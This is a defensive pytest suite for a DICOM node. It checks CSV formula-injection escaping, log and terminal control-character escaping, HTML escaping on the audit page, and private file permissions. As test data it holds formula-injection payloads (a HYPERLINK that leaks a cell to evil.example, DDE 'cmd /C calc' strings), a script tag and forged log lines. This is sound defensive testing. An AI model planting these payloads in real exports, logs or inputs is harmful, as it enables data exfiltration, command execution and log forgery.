"""What the node writes cannot be turned against whoever reads it.

Sender-chosen text (a login name, an AE title, DICOM attributes) must not
become a spreadsheet formula in a CSV the node writes, nor a forged line in
its log or a terminal; coded values reach a research manifest only when they
are valid; and the files that hold the index, keys, held instances, exports
and backups are private (0600 in 0700 folders) whatever the umask.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import re
import socket
import stat
import struct
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from werkzeug.security import generate_password_hash

from dicomnode import logs
from dicomnode.config import Config, RemoteAE
from dicomnode.ingest.pipeline import Ingestor, Outcome
from dicomnode.jobs.export import Cohort, _manifest_row, export
from dicomnode.node import Node, open_archive
from dicomnode.ops.backup import backup, restore
from dicomnode.ops.samples import PATIENTS, save
from storage.archive import Archive
from storage.textsafe import csv_cell, escape_controls
from tests.conftest import REMOTES, incoming, make_config
from tests.test_cli import run
from tests.test_ingest import instance
from tests.test_jobs import export_runner, finished
from tests.test_quarantine import hold
from tests.test_viewer import PASSWORD, as_user
from viewer import create_app

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ATTACKER_NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1",
    "\r=1",
)
RECORD_START = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d{3} [A-Z]+ ")


def neutral(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would read as a formula."""
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (cell, row)


# --- CSV ----------------------------------------------------------------------


def test_the_shared_cell_function_quotes_formulas_and_keeps_the_rest() -> None:
    for text in ATTACKER_NAMES:
        assert csv_cell(text) == "'" + text  # still readable: one quote in front
    for text in ("aigerim", "10.1.1.5", "", "'already text", "A-1", "2.25.1"):
        assert csv_cell(text) == text
    assert csv_cell(-2) == -2 and csv_cell(14.5) == 14.5  # numbers are the node's own


@pytest.mark.slow
def test_login_names_cannot_become_formulas_in_the_audit_csv(
    config: Config, archive: Archive, tmp_path: Path
) -> None:
    archive.index.accounts.add("root", generate_password_hash(PASSWORD), "admin")
    app = create_app(config, archive, b"k" * 32)
    client = app.test_client()
    for name in ATTACKER_NAMES:
        with client.session_transaction() as session:
            session["csrf"] = "token"
        answer = client.post(
            "/login", data={"username": name, "password": "wrong", "csrf_token": "token"}
        )
        assert answer.status_code in (401, 429)
    archive.index.audit.record("association-rejected", user="-AE", source="@10.0.0.1")
    as_user(client, "root")
    web = client.get("/admin/audit.csv")
    assert web.status_code == 200
    cli = run(tmp_path, "audit", "csv")
    assert cli.returncode == 0, cli.stderr
    # subprocess's text mode reads a carriage return as a line feed
    for text, typed in ((web.get_data(as_text=True), "\r"), (cli.stdout, "\n")):
        rows = list(csv.reader(io.StringIO(text, newline="")))
        neutral(rows)
        users = {row[7] for row in rows[1:]}
        names = {"'" + name.replace("\r", typed) for name in ATTACKER_NAMES}
        assert names <= users  # quoted, not dropped
        assert {"'-AE"} <= users and any(row[9] == "'@10.0.0.1" for row in rows)


def test_sender_values_reach_the_manifest_only_when_valid_and_never_as_formulas(
    tmp_path: Path,
) -> None:
    evil = RemoteAE("EVIL", "127.0.0.1", 11190, '=HYPERLINK("http://evil.example","x")')
    config = make_config(tmp_path, remote_aes=(*REMOTES, evil))
    archive = open_archive(config)
    try:
        ingestor = Ingestor(config, archive)
        sent = [
            instance(PATIENTS[0], PatientAge="=1+2", PatientSex="=cmd", Modality="=X"),
            instance(PATIENTS[1], PatientAge="12Y\n=evil", PatientSex="@SUM", Modality="US"),
            instance(PATIENTS[2], PatientAge="004Y", PatientSex="F", Modality="US"),
        ]
        for ds in sent:
            assert ingestor.ingest(incoming(ds, calling_ae="EVIL")).outcome is Outcome.STORED
        out = tmp_path / "cohort.zip"
        export(config, archive, Cohort(), out, progress=False)
        with zipfile.ZipFile(out) as package:
            text = package.read("manifest.csv").decode()
            manifest = json.loads(package.read("manifest.json"))
    finally:
        archive.close()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    neutral(rows)
    records = list(csv.DictReader(io.StringIO(text, newline="")))
    assert sorted(r["sex"] for r in records) == ["", "", "F"]
    assert sorted(r["age"] for r in records) == ["", "", "004Y"]
    assert sorted(r["modalities"] for r in records) == ["", "US", "US"]
    assert {r["hospital"] for r in records} == {"'" + manifest[0]["hospital"]}
    assert sorted(m["sex"] for m in manifest) == ["", "", "F"]  # JSON: checked, not quoted
    assert "=cmd" not in text + json.dumps(manifest) and "@SUM" not in text


@pytest.mark.slow
@pytest.mark.parametrize(
    ("indexed", "expected"),
    [
        ({"PatientAge": "=1+2"}, {"age": ""}),
        ({"PatientAge": "12Y\n=evil"}, {"age": ""}),
        ({"PatientAge": "012Y\n"}, {"age": ""}),
        ({"PatientAge": "0010"}, {"age": ""}),
        ({"PatientAge": "018M"}, {"age": "018M"}),
        ({"PatientAge": "124Y"}, {"age": ""}),
        ({"PatientSex": "=cmd"}, {"sex": ""}),
        ({"PatientSex": "MALE"}, {"sex": ""}),
        ({"PatientSex": "O"}, {"sex": "O"}),
        ({"ModalitiesInStudy": ["US", "=X", "XA", "x a", "@"]}, {"modalities": "US,XA"}),
        ({"PatientWeight": "+12"}, {"weight_kg": 12.0}),
        ({"PatientWeight": "1_2"}, {"weight_kg": 12.0}),
        ({"PatientWeight": "14.5"}, {"weight_kg": "14.5"}),
        ({"PatientSize": "=0.9"}, {"height_m": ""}),
    ],
)
def test_an_older_archive_row_is_checked_before_the_manifest(
    archive: Archive, indexed: dict, expected: dict
) -> None:
    study = {"StudyInstanceUID": "1.2.3", "PatientID": "P", **indexed}
    row = _manifest_row(archive, study, {"P": "Q"})
    assert {k: row[k] for k in expected} == expected


# --- log and terminal -----------------------------------------------------------


@pytest.fixture
def node_log() -> Iterator[io.StringIO]:
    """The node's logging set up as `dicomnode serve` does, written to a buffer."""
    root = logging.getLogger()
    level, factory = root.level, logging.getLogRecordFactory()
    buffer = io.StringIO()
    handler = logs.setup("DEBUG", stream=buffer)
    assert handler is not None
    try:
        yield buffer
    finally:
        root.removeHandler(handler)
        root.setLevel(level)
        logging.setLogRecordFactory(factory)


def forged_lines(output: str) -> list[str]:
    """Lines that neither start a record nor continue one (indented)."""
    return [
        line
        for line in output.split("\n")
        if line and not RECORD_START.match(line) and not line.startswith(" ")
    ]


def raw_controls(output: str) -> set[str]:
    return {c for c in output if c != "\n" and (ord(c) < 32 or 0x7F <= ord(c) < 0xA0)} | (
        set(output) & {"\u2028", "\u2029", "\u202e"}
    )


@pytest.mark.parametrize("logger", ["dicomnode.dimse.transport", "pynetdicom.assoc", "werkzeug"])
def test_control_characters_in_arguments_and_messages_are_escaped(
    node_log: io.StringIO, logger: str
) -> None:
    log = logging.getLogger(logger)
    log.warning("association from %s refused", "EVIL\nFAKE LOG")
    log.warning("from EVIL\r\n2026-01-01 00:00:00,000 INFO dicomnode: admin logged in")
    log.warning("%s", "a\x1b[2Jb\x85c\u2028d\u2029e\u202eg\x00h\x7fi\tj")
    output = node_log.getvalue()
    assert forged_lines(output) == [] and raw_controls(output) == set()
    lines = output.splitlines()
    assert len(lines) == 3
    assert lines[0].endswith("association from EVIL\\nFAKE LOG refused")
    assert "\\r\\n2026-01-01" in lines[1]
    assert lines[2].endswith("a\\x1b[2Jb\\x85c\\u2028d\\u2029e\\u202eg\\x00h\\x7fi\\tj")


def test_an_exception_message_cannot_start_a_line(node_log: io.StringIO) -> None:
    try:
        raise ValueError("bad AE EVIL\nFAKE LOG\x1b[31m")
    except ValueError:
        logging.getLogger("dicomnode.dimse.server").exception("association failed")
    output = node_log.getvalue()
    assert "Traceback" in output and "ValueError: bad AE EVIL" in output
    assert forged_lines(output) == [] and raw_controls(output) == set()


def test_a_calling_ae_with_a_newline_leaves_one_line_in_the_log(
    node_log: io.StringIO, ingestor: Ingestor
) -> None:
    """The ingest names the sender; whatever door the AE title came through."""
    result = ingestor.ingest(incoming(instance(), calling_ae="EVIL\r\nFAKE LOG"))
    assert result.outcome is Outcome.STORED
    output = node_log.getvalue()
    assert "EVIL\\r\\nFAKE LOG" in output
    assert forged_lines(output) == [] and raw_controls(output) == set()


def _associate_rq(calling: bytes, called: bytes = b"CHDNODE") -> bytes:
    """An A-ASSOCIATE-RQ (Verification) built by hand: pynetdicom's own
    requestor refuses a control character in an AE title."""

    def item(kind: int, value: bytes) -> bytes:
        return bytes([kind, 0]) + struct.pack(">H", len(value)) + value

    context = item(
        0x20,
        bytes([1, 0, 0, 0]) + item(0x30, b"1.2.840.10008.1.1") + item(0x40, b"1.2.840.10008.1.2"),
    )
    user = item(0x50, bytes([0x51, 0, 0, 4]) + struct.pack(">L", 16384))
    body = (
        struct.pack(">HH", 1, 0)
        + called.ljust(16)
        + calling.ljust(16)
        + bytes(32)
        + item(0x10, b"1.2.840.10008.3.1.1.1")
        + context
        + user
    )
    return bytes([1, 0]) + struct.pack(">L", len(body)) + body


@pytest.mark.parametrize("known_only", [False, True])
def test_an_association_from_an_ae_title_with_a_newline_forges_no_log_line(
    node_log: io.StringIO, tmp_path: Path, known_only: bool
) -> None:
    config = make_config(tmp_path, require_known_ae=known_only)
    with (
        Node(config, web=False) as node,
        socket.create_connection(("127.0.0.1", node.dicom.port), timeout=30) as peer,
    ):
        peer.sendall(_associate_rq(b"EVIL\nFAKE LOG"))
        answer = peer.recv(1)  # an abort or a rejection, then the node closes
        assert answer in (b"\x03", b"\x07")
        while peer.recv(4096):
            pass
    output = node_log.getvalue()
    assert forged_lines(output) == [] and raw_controls(output) == set()
    assert not any(line.startswith("FAKE LOG") for line in output.splitlines())


@pytest.mark.slow
def test_the_audit_page_and_list_show_controls_and_markup_harmlessly(
    config: Config, archive: Archive, tmp_path: Path
) -> None:
    name = "<script>alert(1)</script>\r\nFAKE\x1b[2J"
    archive.index.audit.record("login", user=name, outcome=4, detail="wrong password")
    archive.index.accounts.add("root", generate_password_hash(PASSWORD), "admin")
    client = create_app(config, archive, b"k" * 32).test_client()
    as_user(client, "root")
    page = client.get("/admin/audit").get_data(as_text=True)
    assert "<script>alert(1)" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    listed = run(tmp_path, "audit", "list")
    assert listed.returncode == 0, listed.stderr
    assert "\x1b" not in listed.stdout and "\r" not in listed.stdout
    assert not any(line.startswith("FAKE") for line in listed.stdout.splitlines())
    assert "\\r\\nFAKE\\x1b[2J" in listed.stdout


def test_escape_controls_keeps_printable_text_of_any_script() -> None:
    assert escape_controls("Айгерим 李 ok") == "Айгерим 李 ok"
    assert escape_controls("a\\nb") == "a\\nb"  # an already written backslash stays as typed
    assert escape_controls("a\nb\rc\td\x1b") == "a\\nb\\rc\\td\\x1b"


# --- file modes -------------------------------------------------------------------


@pytest.fixture
def umask_022() -> Iterator[None]:
    before = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(before)


def loose(*roots: Path) -> list[str]:
    """Everything under ``roots`` (themselves included) that others may read:
    files not 0600, folders not 0700."""
    found = []
    for root in roots:
        for path in [root, *root.rglob("*")]:
            mode = stat.S_IMODE(path.lstat().st_mode)
            wanted = 0o700 if path.is_dir() else 0o600
            if mode != wanted:
                found.append(f"{oct(mode)} {path}")
    return found


@pytest.mark.slow
def test_index_keys_blobs_held_and_exports_are_private_under_umask_022(
    umask_022: None, config: Config, tmp_path: Path
) -> None:
    archive = open_archive(config)
    try:
        ingestor = Ingestor(config, archive)
        for patient in PATIENTS[:2]:
            ds = instance(patient)
            assert ingestor.ingest(incoming(ds)).outcome is Outcome.STORED
        hold(ingestor)
        archive.index.accounts.add("zarina", generate_password_hash(PASSWORD), "researcher")
        app = create_app(config, archive, b"k" * 32)
        client = app.test_client()
        as_user(client, "zarina")
        started = client.post("/api/exports", json={}, headers={"X-CSRF-Token": "token"})
        assert started.status_code == 202
        with export_runner(config, archive):  # as the node runs it
            finished(archive, started.get_json()["id"])
        cli_package = tmp_path / "packages" / "cohort.zip"
        export(config, archive, Cohort(), cli_package, progress=False)
        data = config.data_dir
        sqlite = [data / f"index.sqlite{suffix}" for suffix in ("", "-wal", "-shm")]
        assert all(path.exists() for path in sqlite)  # checked while the index is open
        assert list((data / "packages").glob("*.zip")) and list((data / "quarantine").rglob("*"))
        assert {p.name for p in config.key_dir.iterdir()} >= {"deid.key", "linkage.key"}
        assert loose(data, config.key_dir) == []
        assert stat.S_IMODE(cli_package.stat().st_mode) == 0o600
        with zipfile.ZipFile(cli_package) as package:  # what unzip gives them
            modes = {stat.S_IMODE(i.external_attr >> 16) for i in package.infolist()}
        assert modes == {0o600}
    finally:
        archive.close()


def test_backups_and_restored_files_are_private_under_umask_022(
    umask_022: None, any_index_config: Config, tmp_path: Path
) -> None:
    config = any_index_config
    archive = open_archive(config)
    try:
        assert Ingestor(config, archive).ingest(incoming(instance())).outcome is Outcome.STORED
    finally:
        archive.close()
    out = tmp_path / "backups" / "monday"
    written = backup(config, out)
    assert {"keys/deid.key", "keys/linkage.key"} <= set(written)
    assert {"index.sqlite", "index.pgdump"} & set(written)  # pg_dump writes its own file
    assert loose(out) == []
    if config.index_url:
        return  # a PostgreSQL index is restored into the database, not a file
    elsewhere = make_config(tmp_path / "restored")
    restore(elsewhere, out)
    assert loose(elsewhere.key_dir) == []
    assert stat.S_IMODE((elsewhere.data_dir / "index.sqlite").stat().st_mode) == 0o600


def test_an_older_installation_is_tightened_at_start_and_said_once(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    config = make_config(tmp_path)
    open_archive(config).close()
    data, keys = config.data_dir, config.key_dir
    for path, mode in (
        (data, 0o755),
        (data / "blobs", 0o755),
        (data / "quarantine", 0o755),
        (data / "index.sqlite", 0o644),
        (keys, 0o755),
    ):
        path.chmod(mode)
    with caplog.at_level(logging.WARNING, logger="storage.private"):
        open_archive(config).close()
        open_archive(config).close()
    said = [r for r in caplog.records if r.name == "storage.private"]
    assert len(said) == 1 and "tightened" in said[0].getMessage()
    assert loose(data, keys) == []


@pytest.mark.slow
def test_the_command_line_keeps_what_it_writes_private_under_umask_022(
    umask_022: None, tmp_path: Path
) -> None:
    sent = save(instance(), tmp_path / "in" / "echo.dcm")
    imported = run(tmp_path, "import", "--no-progress", str(sent))
    assert imported.returncode == 0, imported.stderr
    exported = run(
        tmp_path, "export", "--no-progress", "--out", str(tmp_path / "out" / "cohort.zip")
    )
    assert exported.returncode == 0, exported.stderr
    saved = run(tmp_path, "backup", "--out", str(tmp_path / "bk"))
    assert saved.returncode == 0, saved.stderr
    assert loose(tmp_path / "var", tmp_path / "secrets", tmp_path / "bk") == []
    assert stat.S_IMODE((tmp_path / "out" / "cohort.zip").stat().st_mode) == 0o600


def test_a_command_runs_under_umask_077_and_puts_the_old_one_back(
    umask_022: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from dicomnode.cli import main as cli

    seen: list[int] = []

    def command(*_: object) -> int:
        seen.append(os.umask(0o077))  # reads it (and sets it back)
        return 0

    monkeypatch.setattr(cli, "_run", command)
    monkeypatch.setenv("DICOMNODE_DATA_DIR", str(tmp_path / "var"))
    monkeypatch.setenv("DICOMNODE_KEY_DIR", str(tmp_path / "secrets"))
    factory = logging.getLogRecordFactory()
    try:
        assert cli.main(["stats"]) == 0
    finally:
        logging.setLogRecordFactory(factory)
    assert seen == [0o077] and os.umask(0o022) == 0o022


def test_a_folder_holding_what_the_node_did_not_make_is_never_tightened(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """`data_dir` pointed at a shared folder (the working directory, "/"
    under systemd) must not lose its and its neighbours' permissions: only
    what the node itself makes is tightened."""
    from storage.private import installation, tighten

    shared = tmp_path / "shared"
    (shared / "usr").mkdir(parents=True)
    (shared / "notes.txt").write_text("someone else's")
    (shared / "blobs").mkdir()
    keys = tmp_path / "keys"
    keys.mkdir()
    (keys / "deid.key").write_bytes(b"k")
    (keys / "other.pem").write_bytes(b"x")
    for path in (shared, shared / "usr", shared / "notes.txt", shared / "blobs", keys):
        path.chmod(0o755 if path.is_dir() else 0o644)
    (keys / "deid.key").chmod(0o644)
    with caplog.at_level(logging.WARNING, logger="storage.private"):
        tighten(installation(shared, keys, shared / "index.sqlite"))
    mode = {p: stat.S_IMODE(p.stat().st_mode) for p in (shared, shared / "usr", keys)}
    assert mode == {shared: 0o755, shared / "usr": 0o755, keys: 0o755}
    assert stat.S_IMODE((shared / "notes.txt").stat().st_mode) == 0o644
    # What the node made there is still closed off.
    assert stat.S_IMODE((shared / "blobs").stat().st_mode) == 0o700
    assert stat.S_IMODE((keys / "deid.key").stat().st_mode) == 0o600
    assert any("not the node's alone" in r.getMessage() for r in caplog.records)


def test_other_services_keys_and_a_linked_index_are_left_alone(tmp_path: Path) -> None:
    """key_dir pointed at a folder of other services' TLS keys, and an index
    path that is a link to someone's file: neither is the node's to chmod."""
    from storage.private import installation, tighten

    keys = tmp_path / "ssl"
    keys.mkdir()
    (keys / "server.key").write_bytes(b"x")
    (keys / "deid.key").write_bytes(b"k")
    data = tmp_path / "var"
    data.mkdir()
    theirs = tmp_path / "notes.db"
    theirs.write_bytes(b"x")
    (data / "index.sqlite").symlink_to(theirs)
    for path, mode in ((keys, 0o750), (keys / "server.key", 0o640), (theirs, 0o664)):
        path.chmod(mode)
    tighten(installation(data, keys, data / "index.sqlite"))
    assert stat.S_IMODE(keys.stat().st_mode) == 0o750
    assert stat.S_IMODE((keys / "server.key").stat().st_mode) == 0o640
    assert stat.S_IMODE(theirs.stat().st_mode) == 0o664
